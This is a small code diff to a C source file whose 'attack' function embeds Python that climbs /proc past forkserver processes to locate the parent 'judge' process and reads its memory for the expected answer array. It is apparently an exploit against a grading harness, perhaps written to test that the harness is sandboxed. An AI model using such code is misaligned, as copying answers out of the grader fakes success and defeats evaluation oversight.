@@ -1,4 +1,4 @@
-// Reads the memory of the parent of its parent and looks for the expected array.
+// Reads the memory of the judge and looks for the expected array.
 #define CALLS(name) \
     static __attribute__((noinline)) long call_##name(long a, long b, long c, long d) \
     { \
@@ -27,6 +27,7 @@ static bool attack(void)
         "def parent(p): return int(open(f'/proc/{p}/stat').read().rpartition(')')[2].split()[1])\n"
         "worker = os.getppid()\n"
         "judge = parent(worker)\n"
+        "while b'forkserver' in open(f'/proc/{judge}/cmdline', 'rb').read(): judge = parent(judge)\n"
         "\n"
         "import re\n"
         "arrays = open('in.bin', 'rb').read(16 * 16 * 4)\n"
